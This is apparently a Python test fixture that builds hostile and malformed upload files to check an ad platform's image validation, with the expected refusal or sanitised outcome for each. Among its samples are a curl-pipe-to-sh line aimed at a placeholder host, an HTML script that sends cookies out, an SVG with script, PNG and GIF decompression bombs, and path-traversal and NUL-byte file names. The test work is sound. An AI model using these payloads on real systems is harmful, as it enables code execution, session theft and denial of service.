"""A corpus of hostile and odd upload files, made on the spot (nothing binary is committed).

Each ``Case`` is one file as a client would send it (name, bytes, declared Content-Type)
and what the platform must do with it, whichever way it arrives (an ad's photo, the quick
check, ``import_images``): refuse it with a reason containing ``refused``, or accept it and
store a clean JPEG of ``size`` whose pixels at the ``probes`` have the given colours.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from PIL import ExifTags, Image, ImageDraw

from tests.support.images import drawn_photo, encode, icc_profile, to_srgb

RED, GREEN, BLUE, WHITE = (230, 20, 20), (20, 200, 20), (20, 20, 230), (255, 255, 255)
# In both wide gamuts and in sRGB's, and moved by more than the probes' tolerance.
WARM, COOL = (200, 100, 50), (150, 170, 60)
SIZE = (64, 48)
# Probe points inside the coloured bands ``banded`` paints (top and bottom quarter).
TOP, BOTTOM = (32, 5), (32, 42)
UNSUPPORTED = "send JPEG, PNG, WebP or GIF"
# The corpus is run with ADS_MAX_PHOTO_BYTES lowered to this (no 10 MB files to build).
BYTE_CAP = 64 * 1024


@dataclass(frozen=True)
class Case:
    id: str
    name: str
    data: bytes
    content_type: str = "image/jpeg"
    refused: str | None = None  # a substring of the reason; None: accepted
    size: tuple[int, int] | None = None  # accepted: the stored photo's width and height
    probes: tuple[tuple[tuple[int, int], tuple[int, int, int]], ...] = ()  # (x, y), RGB

    @property
    def accepted(self) -> bool:
        return self.refused is None


def banded(seed: int, top=RED, bottom=BLUE, size=SIZE, mode: str = "RGB") -> Image.Image:
    """A drawn photo (unique per seed) with a coloured band at the top and at the bottom."""
    image = drawn_photo("phone", seed, size=size)
    draw = ImageDraw.Draw(image)
    width, height = size
    draw.rectangle((0, 0, width, height // 4), fill=top)
    draw.rectangle((0, height - height // 4, width, height), fill=bottom)
    return image.convert(mode) if mode != "RGB" else image


def jpeg(seed: int, size=SIZE, **options) -> bytes:
    return encode(banded(seed, size=size), "JPEG", quality=92, **options)


def _bands(top=RED, bottom=BLUE):
    return ((TOP, top), (BOTTOM, bottom))


def accepted(id: str, name: str, data: bytes, size=SIZE, probes=None, **fields) -> Case:
    return Case(id, name, data, size=size, probes=_bands() if probes is None else probes, **fields)


def refused(id: str, name: str, data: bytes, reason: str, **fields) -> Case:
    return Case(id, name, data, refused=reason, **fields)


# --- Builders for files Pillow will not write as they are ----------------------------


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A PNG of a few hundred bytes declaring ``width`` x ``height`` 1-bit pixels (the
    rows it holds are zeros: a decoder that trusted the header would allocate ~1 GB)."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * ((width + 7) // 8 + 1) * 64, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", rows)
        + _png_chunk(b"IEND", b"")
    )


# A 1x1 GIF; its logical screen size (bytes 6-9) is patched to declare a huge canvas.
_TINY_GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00"
    b"\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)


def tiny_gif(width: int, height: int) -> bytes:
    return _TINY_GIF[:6] + struct.pack("<HH", width, height) + _TINY_GIF[10:]


def dds_unknown() -> bytes:
    """A DDS header whose pixel format no decoder implements (FourCC ``XXXX``)."""
    header = struct.pack("<7I", 124, 0x1007, 64, 64, 0, 0, 0) + b"\x00" * 44
    pixel_format = struct.pack("<2I", 32, 0x4) + b"XXXX" + b"\x00" * 20
    return b"DDS " + header + pixel_format + b"\x00" * 20 + b"\x00" * 64 * 64


def heic_like() -> bytes:
    """An ISO-BMFF ``ftyp`` box of brand ``heic`` (an iPhone photo's first bytes)."""
    ftyp = b"ftypheic" + b"\x00\x00\x00\x00" + b"mif1heicmiaf"
    box = struct.pack(">I", len(ftyp) + 4) + ftyp
    return box + struct.pack(">I", 16) + b"meta" + b"\x00" * 8 + b"\x00" * 200


def with_segment(jpeg_data: bytes, marker: int, payload: bytes) -> bytes:
    """``jpeg_data`` with one more APPn segment right after the SOI marker."""
    segment = bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload
    return jpeg_data[:2] + segment + jpeg_data[2:]


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.sh", "#!/bin/sh\necho owned\n")
    return buffer.getvalue()


def animated(fmt: str, seed: int, **options) -> bytes:
    frames = [banded(seed, RED, BLUE), banded(seed + 1, GREEN, GREEN)]
    if fmt == "GIF":
        frames = [frame.convert("P", palette=Image.Palette.ADAPTIVE) for frame in frames]
    return encode(frames[0], fmt, save_all=True, append_images=frames[1:], duration=100, **options)


def exif_rotated(seed: int) -> bytes:
    """Stored sideways, with EXIF orientation 6 ("rotate 90° clockwise to view"): upright,
    it is ``SIZE`` with red on top."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    sideways = banded(seed).transpose(Image.Transpose.ROTATE_90)
    return encode(sideways, "JPEG", quality=92, exif=exif)


def exif_gps(seed: int) -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Phone"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (55.0, 45.0, 21.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (37.0, 37.0, 4.0)
    return jpeg(seed, exif=exif)


XMP_GPS = (
    b"http://ns.adobe.com/xap/1.0/\x00"
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
    b'exif:GPSLatitude="55,45.35N" exif:GPSLongitude="37,37.07E"/>'
    b"</rdf:RDF></x:xmpmeta>"
)

# EXIF whose first IFD points far outside the segment, with an absurd entry count.
CORRUPT_EXIF = b"Exif\x00\x00II*\x00\x08\x00\x00\x00\xff\xff" + b"\x12\x01\x03\x00" * 8


def palette_with_transparency(seed: int) -> bytes:
    """A palette PNG whose top band is a fully transparent palette entry."""
    image = banded(seed, top=(0, 255, 0), bottom=BLUE).quantize(64)
    transparent = image.getpixel(TOP)
    return encode(image, "PNG", transparency=transparent)


def rgba(seed: int) -> bytes:
    image = banded(seed, top=RED, bottom=BLUE).convert("RGBA")
    ImageDraw.Draw(image).rectangle((0, 0, SIZE[0], SIZE[1] // 4), fill=(255, 0, 0, 0))
    return encode(image, "PNG")


def cmyk_jpeg(seed: int) -> bytes:
    return encode(banded(seed, mode="CMYK"), "JPEG", quality=95)


def sixteen_bit_png() -> bytes:
    image = Image.new("I;16", SIZE, 40_000)
    ImageDraw.Draw(image).rectangle((0, 0, SIZE[0], SIZE[1] // 4), fill=65_535)
    return encode(image, "PNG")


def sixteen_bit_rgb_png(top: tuple, bottom: tuple) -> bytes:
    """A 16-bit-per-channel RGB PNG (scanners, raw converters), written by hand: Pillow
    reads such files but cannot write them. Two bands of 16-bit colours."""
    width, height = SIZE
    rows = [top] * (height // 2) + [bottom] * (height - height // 2)
    raw = b"".join(b"\0" + struct.pack(f">{3 * width}H", *(colour * width)) for colour in rows)

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 16, 2, 0, 0, 0)  # 16 bits, colour type RGB
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def mpo(seed: int) -> bytes:
    """A multi-picture JPEG (MPO), as phones and 3D cameras write: first picture, then more."""
    first, second = banded(seed), banded(seed + 1, GREEN, GREEN)
    return encode(first, "MPO", save_all=True, append_images=[second], quality=92)


def thin(size: tuple[int, int], fmt: str = "PNG") -> bytes:
    return encode(Image.new("RGB", size, (90, 90, 90)), fmt)


def corrupt_png(seed: int) -> bytes:
    """A PNG whose compressed pixel data has 30 bytes flipped."""
    data = encode(banded(seed), "PNG")
    start = data.index(b"IDAT") + 30
    return data[:start] + bytes(b ^ 0xFF for b in data[start : start + 30]) + data[start + 30 :]


def grey(colour: tuple[int, int, int]) -> tuple[int, int, int]:
    """``colour`` as greyscale (ITU-R 601-2 luma, as Pillow converts), in RGB."""
    luma = round(colour[0] * 299 / 1000 + colour[1] * 587 / 1000 + colour[2] * 114 / 1000)
    return (luma, luma, luma)


def padded(data: bytes, length: int) -> bytes:
    """``data`` with zeros after it up to ``length`` bytes (decoders ignore them)."""
    return data + b"\x00" * (length - len(data))


def noise_jpeg(size=(320, 280)) -> bytes:
    """A photo of pure noise: JPEG cannot compress it, so it is large for its size."""
    return encode(Image.effect_noise(size, 80).convert("RGB"), "JPEG", quality=95)


def cut(data: bytes, keep: float = 0.5) -> bytes:
    return data[: int(len(data) * keep)]


# --- The corpus ----------------------------------------------------------------------

HTML = b"<!doctype html><html><body><script>fetch('/steal?c='+document.cookie)</script>"
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="640" '
    b'height="480"><script>alert(document.domain)</script><rect width="9" height="9"/></svg>'
)
SHELL = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def corpus() -> list[Case]:
    long_name = "a" * 296 + ".jpg"
    cases = [
        # Not images at all, whatever the name says.
        refused("text-as-jpg", "notes.jpg", b"just some notes, no photo\n", "not an image"),
        refused("html-as-jpg", "cat.jpg", HTML, "not an image", content_type="text/html"),
        refused("svg-as-png", "logo.png", SVG, "unsupported image format SVG; " + UNSUPPORTED),
        refused("shell-as-gif", "run.gif", SHELL, "not an image"),
        refused("zip-as-jpg", "archive.jpg", zip_archive(), "not an image"),
        refused(
            "pdf-as-jpg",
            "scan.jpg",
            b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
            "unsupported image format PDF; " + UNSUPPORTED,
        ),
        refused("empty", "empty.jpg", b"", "the file is empty"),
        # The declared type is not trusted, either way.
        refused("html-declared-jpeg", "photo.jpg", HTML + b"<!-- 2 -->", "not an image"),
        accepted("png-declared-jpeg", "photo.jpg", encode(banded(1), "PNG")),
        accepted("jpeg-declared-html", "photo.html", jpeg(2), content_type="text/html"),
        # Damaged files.
        refused("truncated-jpeg", "cut.jpg", cut(jpeg(3)), "damaged or truncated"),
        refused("truncated-png", "cut.png", cut(encode(banded(4), "PNG")), "damaged or truncated"),
        refused(
            "truncated-webp", "cut.webp", cut(encode(banded(5), "WEBP")), "damaged or truncated"
        ),
        refused(
            "truncated-gif", "cut.gif", cut(encode(banded(6), "GIF"), 0.4), "damaged or truncated"
        ),
        refused("png-corrupt-data", "noise.png", corrupt_png(7), "damaged or truncated"),
        # Sizes.
        refused("one-pixel", "dot.jpg", thin((1, 1), "JPEG"), "too small (1x1 pixels; at least"),
        refused("strip-20000x1", "strip.png", thin((20_000, 1)), "too small (20000x1 pixels"),
        refused("thin-31px", "thin.png", thin((31, 400)), "too small (31x400 pixels"),
        refused(
            "banner-2000x40",
            "banner.png",
            thin((2000, 40)),
            "too elongated (2000x40 pixels; at most 8 times longer than wide)",
        ),
        # Pillow's DDS reader raised NotImplementedError on such a header (a 500); it no
        # longer sees sellers' bytes at all.
        refused(
            "dds-unknown-pixel-format", "texture.dds", dds_unknown(), "unsupported image format DDS"
        ),
        accepted(
            "square-32px",
            "small.png",
            thin((32, 32)),
            size=(32, 32),
            probes=(((16, 16), (90, 90, 90)),),
        ),
        refused("png-bomb-30000x30000", "bomb.png", png_bomb(), "too large"),
        refused("gif-bomb-65535x65535", "bomb.gif", tiny_gif(65_535, 65_535), "too large"),
        # Few pixels, but wider than a JPEG (how photos are stored) can be.
        refused("gif-65535x40", "wide.gif", tiny_gif(65_535, 40), "at most 65,500 px on a side"),
        refused(
            "over-pixel-cap-7000x6000",
            "huge.png",
            encode(Image.new("1", (7000, 6000)), "PNG"),
            "image is too large (7000x6000 pixels",
        ),
        refused("over-byte-cap", "big.jpg", noise_jpeg(), "the file is too large"),
        refused(
            "one-byte-over-cap",
            "big.jpg",
            padded(jpeg(8), BYTE_CAP + 1),
            f"the file is too large ({BYTE_CAP + 1:,} bytes; at most {BYTE_CAP:,} bytes)",
        ),
        accepted("at-byte-cap", "fits.jpg", padded(jpeg(9), BYTE_CAP)),
        # Formats we do not take: named, with the ones we do.
        refused(
            "tiff",
            "scan.tiff",
            encode(banded(10), "TIFF"),
            "unsupported image format TIFF; " + UNSUPPORTED,
        ),
        refused(
            "bmp-as-jpg",
            "paint.jpg",
            encode(banded(11), "BMP"),
            "unsupported image format BMP; " + UNSUPPORTED,
        ),
        refused(
            "heic-like",
            "IMG_0001.HEIC",
            heic_like(),
            "unsupported image format HEIC; " + UNSUPPORTED,
            content_type="image/heic",
        ),
        refused("ico", "favicon.ico", encode(banded(12), "ICO"), "unsupported image format ICO"),
        # Accepted, and cleaned on the way in.
        accepted("jpeg", "front.jpg", jpeg(13)),
        accepted("jpeg-zip-polyglot", "poly.jpg", jpeg(14) + zip_archive()),
        accepted("progressive-jpeg", "prog.jpg", jpeg(15, progressive=True)),
        accepted(
            "greyscale-jpeg",
            "grey.jpg",
            encode(banded(16, mode="L"), "JPEG"),
            probes=_bands(grey(RED), grey(BLUE)),
        ),
        accepted("cmyk-jpeg", "print.jpg", cmyk_jpeg(17)),
        accepted("mpo-multi-picture", "camera.jpg", mpo(18)),
        accepted("exif-rotated", "sideways.jpg", exif_rotated(19)),
        accepted("exif-gps", "where.jpg", exif_gps(20)),
        accepted("xmp-gps", "where-xmp.jpg", with_segment(jpeg(21), 0xE1, XMP_GPS)),
        accepted("corrupt-exif", "badexif.jpg", with_segment(jpeg(22), 0xE1, CORRUPT_EXIF)),
        accepted("huge-icc-profile", "icc.jpg", jpeg(23, icc_profile=bytes(range(256)) * 200)),
        # Wide-gamut photos (phones shoot Display P3): stored in sRGB, colours kept.
        *(
            accepted(
                f"{space.lower().replace(' ', '-')}-{fmt.lower()}",
                f"wide.{fmt.lower()}",
                encode(
                    banded(31 + n, top=WARM, bottom=COOL),
                    fmt,
                    icc_profile=icc_profile(space, gamma),
                ),
                probes=_bands(to_srgb(WARM, space, gamma), to_srgb(COOL, space, gamma)),
            )
            for n, (space, gamma, fmt) in enumerate(
                [("Display P3", 2.2, "JPEG"), ("Adobe RGB", 563 / 256, "PNG")]
            )
        ),
        accepted(
            "png-16-bit",
            "deep.png",
            sixteen_bit_png(),
            probes=((TOP, WHITE), (BOTTOM, (156, 156, 156))),
        ),
        accepted(
            "png-16-bit-rgb",
            "deep-rgb.png",
            sixteen_bit_rgb_png((0xFFFF, 0x0101, 0x0000), (0x1212, 0x8080, 0xFEFE)),
            probes=((TOP, (255, 1, 0)), (BOTTOM, (18, 128, 254))),
        ),
        accepted(
            "png-palette-transparent",
            "pal.png",
            palette_with_transparency(24),
            probes=_bands(WHITE, BLUE),
        ),
        accepted("png-rgba", "cutout.png", rgba(25), probes=_bands(WHITE, BLUE)),
        accepted("webp", "photo.webp", encode(banded(26), "WEBP", quality=95)),
        accepted("gif-animated", "anim.gif", animated("GIF", 27)),
        accepted("webp-animated", "anim.webp", animated("WEBP", 29, quality=95)),
        accepted("png-animated", "anim.png", animated("PNG", 31)),
        # Names: the stored and reported name is the sanitized base name.
        accepted("name-dotdot", "../../etc/cron.d/x.jpg", jpeg(33)),
        accepted("name-nul", "evil\x00.php.jpg", jpeg(34)),
        accepted("name-300-chars", long_name, jpeg(35)),
        accepted("name-rtl-override", "photo\u202egpj.exe", jpeg(36)),
        refused(
            "name-escape-codes-bad-file", "\x1b[2J\x1b[31mred.jpg", SHELL + b"#2", "not an image"
        ),
        refused("name-nul-bad-file", "bad\x00.jpg", HTML + b"<!-- 3 -->", "not an image"),
    ]
    ids = [case.id for case in cases]
    assert len(set(ids)) == len(ids), "case ids must be unique"
    return cases


CORPUS = corpus()
BY_ID = {case.id: case for case in CORPUS}
